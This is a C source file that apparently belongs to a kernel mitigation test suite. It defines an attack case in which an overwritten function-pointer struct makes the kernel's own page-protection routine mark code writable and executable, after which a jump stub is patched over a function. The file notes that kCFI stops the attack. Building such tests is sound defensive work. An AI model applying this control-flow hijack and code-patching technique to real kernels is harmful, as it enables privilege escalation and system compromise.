/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Rights of code: the kernel's own function that changes rights of a page is called for the attacker, by a job whose
 * function and arguments he has overwritten. Then he writes the code.
 */
#include "attacks.h"

struct job {
	long (*work)(void *object, uint64_t key, unsigned mode);
	void *object;
	uint64_t key;
	unsigned mode;
};

static long remember(void *object, uint64_t key, unsigned mode)
{
	*(uint64_t *)object = key + mode;
	return 1;
}

static uint64_t remembered;
static struct job job = { remember, &remembered, 3, 4 };

static NOINLINE long work(void)
{
	struct job *next = attack_opaque(&job);

	return next->work(next->object, next->key, next->mode);
}

static NOINLINE long tick(long value)
{
	return attack_opaque(value) + 3;
}

static bool benign(const struct attack *attack)
{
	return work() == 1 && remembered == 7 && tick(2) == 5;
}

static void patch(const struct attack *attack, uintptr_t slide)
{
	uint8_t code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	uintptr_t at = attack_linked_code(tick) + slide;
	uint64_t forged[4] = { attack_linked_code(arch_pagetable_protect) + slide,
			       attack_linked(&arch_kernel_pagetable) + slide, 0,
			       ARCH_PAGE_READ | ARCH_PAGE_WRITE | ARCH_PAGE_EXEC };

	memcpy(code + 2, &goal, sizeof(goal));
	attack_primitive(attack);
	/* The code may lie on two pages. */
	for (uintptr_t page = align_down(at, PAGE_SIZE); page < at + sizeof(code); page += PAGE_SIZE) {
		forged[2] = page;
		attack_write(attack_linked(&job) + slide, forged, sizeof(forged));
		work();
	}
	attack_write(at, code, sizeof(code));
	tick(1);
}

static void run(const struct attack *attack)
{
	patch(attack, attack_leaked_slide());
}

ATTACK(code_protect, .family = "writing code", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "kcfi", .about = "the kernel's own function makes code writable", .run = run, .benign = benign);
